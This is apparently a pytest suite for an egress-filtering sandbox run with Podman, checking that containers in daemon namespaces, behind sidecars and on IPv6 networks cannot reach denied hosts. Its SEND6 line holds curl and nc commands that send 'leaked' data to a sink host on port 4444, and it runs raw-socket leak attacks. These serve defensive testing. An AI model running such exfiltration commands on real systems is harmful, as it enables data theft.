"""Podman, as root, the ways that the page on containers has: the image as a sidecar, and the node daemon."""

from __future__ import annotations

import json
import shlex
from collections.abc import Iterator
from pathlib import Path

import pytest

from lab import plan
from lab.daemon import running
from lab.engine import CONTAINERS6, IMAGE, MACHINE, SANDGATE
from lab.guarded import (
    DIRECTLY,
    SEND,
    WITH_ATTACKS,
    Guarded,
    attack_with_raw_sockets,
    pinned,
    reaches,
    show_leak,
)
from lab.internet import Internet
from lab.page_commands import TRY, Shell, block, holds
from lab.podman import Podman, is_installed, podman
from lab.processes import wait_until
from lab.sandgate import allowing

READ_ONLY = ("--read-only", "--tmpfs", "/var/log/sandgate")


@pytest.fixture(scope="module")
def engine(net: Internet, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Podman]:
    if not is_installed():
        pytest.skip("Podman is not installed")
    with podman(net, tmp_path_factory.mktemp("podman"), plan.DNS4) as made:
        yield made


@pytest.mark.attack(
    "T4 N1", "sends as its first act in a network that the daemon made, which Podman joins by its path", stopped_by="kernel"
)
def test_network_of_the_daemon(internet: Internet, engine: Podman, tmp_path: Path) -> None:
    """`--network ns:PATH`: no container has to hold the network, and a container that is started again has it still."""
    show_leak(internet, engine, "/bin/sh", "-c", f"{SEND}; sleep 600")
    script = f"{SEND}; curl -sS -m 5 http://{plan.ALLOWED}/; curl -sS -m 5 http://{plan.DENIED}/; true"
    with running(internet, tmp_path) as daemon:
        box = daemon.create(allowing(plan.ALLOWED), id="box")
        joined = ("--cap-drop", "ALL", "--network", f"ns:{box.namespace}", "--name", "workload")
        engine.docker("run", *joined, IMAGE, "/bin/sh", "-c", script)
        for _ in range(2):
            output = engine.logs("workload")
            assert f"served {plan.ALLOWED}" in output and f"served {plan.DENIED}" not in output, output
            engine.docker("start", "--attach", "workload")
        engine.remove("workload")
        assert internet.web.hosts() == {plan.ALLOWED} and internet.sinks.data() == ""
        assert box.ask("DELETE").status == 204


@pytest.mark.attack("N1 T6", "sends from a Podman container that the daemon knows by its id", stopped_by="kernel")
def test_container_that_the_daemon_guards(internet: Internet, engine: Podman, tmp_path: Path) -> None:
    """Found through Podman's API, when its service runs. By default Podman's containers have no CAP_NET_RAW."""
    socket = tmp_path / "podman.sock"
    configuration = tmp_path / "configuration.yaml"
    configuration.write_text(f"containerSockets: [{socket}]\n")
    container = engine.start()
    assert reaches(engine, container, plan.DENIED), "before it is attached"
    internet.forget()
    with engine.service(socket), running(internet, tmp_path, "--config", str(configuration)) as daemon:
        for attachment in ({"container": container}, {"container": container, "inbound": "none"}):
            box = daemon.create(allowing(plan.ALLOWED), attachment=attachment)
            assert reaches(engine, container, plan.ALLOWED) and not reaches(engine, container, plan.DENIED)
            engine.run(container, "/bin/sh", "-c", SEND)
            assert box.ask("DELETE").status == 204
    engine.remove(container)
    assert internet.web.hosts() == {plan.ALLOWED} and internet.sinks.data() == ""


@pytest.fixture
def guarded(internet: Internet, engine: Podman) -> Iterator[Guarded]:
    made = Guarded(internet, engine, allowing(plan.ALLOWED), "--cap-add", "NET_RAW", *READ_ONLY)
    try:
        yield made
    finally:
        made.remove()


@pytest.mark.attack(
    "N1 T8", "sends from a Podman container that joins a sidecar's network, and after the sidecar was killed",
    stopped_by="kernel, dns",
)
def test_sidecar(internet: Internet, engine: Podman, guarded: Guarded) -> None:
    free = engine.start()
    assert reaches(engine, free, plan.DENIED), "without a sidecar"
    engine.remove(free)
    internet.forget()
    # The page waits so: Podman's images have no health check.
    engine.docker("exec", guarded.sidecar, "/usr/bin/sandgate", "sidecar", "--check")
    sandbox = guarded.sandbox("--cap-drop", "ALL")
    assert reaches(engine, sandbox, plan.ALLOWED), guarded.log
    assert not reaches(engine, sandbox, plan.DENIED)
    assert not reaches(engine, sandbox, plan.DENIED, *pinned(plan.DENIED, plan.DENIED4))
    engine.run(sandbox, "/bin/sh", "-c", SEND)
    assert internet.web.hosts() == {plan.ALLOWED} and internet.sinks.data() == ""
    assert '"event":"dns.denied"' in guarded.log and f'"host":"{plan.DENIED}"' in guarded.log
    engine.docker("kill", "--signal", "KILL", guarded.sidecar)
    wait_until(lambda: not guarded.runs(), "its end", 20)
    assert not reaches(engine, sandbox, plan.ALLOWED, *DIRECTLY) and not reaches(engine, sandbox, plan.ALLOWED)
    assert internet.web.requests() == []


@pytest.mark.attack(
    "T1 T10", "sends frames behind the hooks and sets every mark, in a Podman container that has CAP_NET_RAW",
    stopped_by="fence, kernel",
)
def test_attacks_with_raw_sockets(internet: Internet, engine: Podman, guarded: Guarded) -> None:
    raw = (*WITH_ATTACKS, "--cap-add", "NET_RAW")
    free = engine.start(*raw, image=MACHINE)
    attack_with_raw_sockets(engine, free)
    arrived = internet.sinks.data()
    assert "stolen by a frame" in arrived and "stolen by a mark" in arrived, "without a sidecar"
    engine.remove(free)
    sandbox = guarded.sandbox(*raw, image=MACHINE)
    attack_with_raw_sockets(engine, sandbox)
    assert internet.sinks.data() == ""
    assert reaches(engine, sandbox, plan.ALLOWED)


SEND6 = f"curl -s -m 1 tftp://[{plan.SINK6}]:4444/leaked; echo leaked | nc -w 1 {plan.SINK6} 4444"


@pytest.fixture(scope="module")
def network6(engine: Podman) -> tuple[str, str]:
    """A network with IPv6, as `podman network create --ipv6` makes it: its name, and the hardware address of its bridge."""
    engine.docker("network", "create", "--ipv6", "--subnet", "10.82.0.0/24", "--subnet", CONTAINERS6, "six")
    return "six", engine.docker("network", "inspect", "--format", "{{.NetworkInterface}}", "six")


@pytest.mark.attack(
    "N3 N4 T1 T10",
    "sends by IPv6 to names and addresses, and frames behind the hooks, in a Podman network that has it, with CAP_NET_RAW",
    stopped_by="dns, kernel, fence",
)
def test_network_with_ipv6(internet: Internet, engine: Podman, network6: tuple[str, str]) -> None:
    network, bridge = network6
    raw = (*WITH_ATTACKS, "--cap-add", "NET_RAW")

    def attack(container: str) -> None:
        neighbour = engine.namespace.check("cat", f"/sys/class/net/{bridge}/address").strip()
        for is_ipv6 in (False, True):
            attack_with_raw_sockets(engine, container, neighbour, is_ipv6)
        engine.run(container, "/bin/busybox", "sh", "-c", SEND6)

    free = engine.start("--network", network, *raw, image=MACHINE)
    for version in ("-4", "-6"):
        wait_until(lambda: reaches(engine, free, plan.DENIED, version), f"{version} without a sidecar")
    attack(free)
    arrived = [(a.data, ":" in a.peer) for a in internet.sinks.arrivals()]
    for words in ("stolen by a frame", "stolen by a mark"):
        assert {is_ipv6 for data, is_ipv6 in arrived if words in data} == {False, True}, "without a sidecar"
    assert {is_ipv6 for data, is_ipv6 in arrived if "leaked" in data} == {True}, "without a sidecar"
    engine.remove(free)
    internet.forget()
    options = ("--network", network, "--cap-add", "NET_RAW", *READ_ONLY)
    guarded = Guarded(internet, engine, allowing(plan.ALLOWED), *options)
    try:
        sandbox = guarded.sandbox(*raw, image=MACHINE)
        for version, address in (("-4", plan.DENIED4), ("-6", f"[{plan.DENIED6}]")):
            assert reaches(engine, sandbox, plan.ALLOWED, version), guarded.log
            assert not reaches(engine, sandbox, plan.DENIED, version)
            assert not reaches(engine, sandbox, plan.DENIED, version, *pinned(plan.DENIED, address))
            assert not reaches(engine, sandbox, plan.OTHER, version)
        attack(sandbox)
        assert reaches(engine, sandbox, plan.ALLOWED, "-6")
        assert internet.web.hosts() == {plan.ALLOWED} and internet.sinks.data() == ""
    finally:
        guarded.remove()


def test_page(internet: Internet, engine: Podman, tmp_path: Path) -> None:
    """Its commands, as they stand."""
    (tmp_path / "policy.yaml").write_text(json.dumps(allowing(plan.ALLOWED)))
    with running(internet, tmp_path) as daemon:
        shell = Shell(tmp_path, daemon, podman=shlex.join((*engine.on_the_machine, "/usr/bin/podman")))
        text = block("Containers.md", "sandgate attach --create").replace("/run/sandgate", str(tmp_path / "run"))
        output = shell.run(text, {"IMAGE COMMAND": f"{IMAGE} {TRY}"})
        assert holds(internet, output), output


def test_image_refuses_to_start_without_its_capabilities(engine: Podman) -> None:
    """Podman's default has no CAP_NET_RAW, which Docker's has: the page's `--cap-add NET_RAW` is needed, and it is said."""
    container = engine.docker("run", "--detach", "--cap-add", "NET_ADMIN", SANDGATE)
    assert engine.docker("wait", container) != "0" and "missing CAP_NET_RAW" in engine.logs(container)
    engine.remove(container)
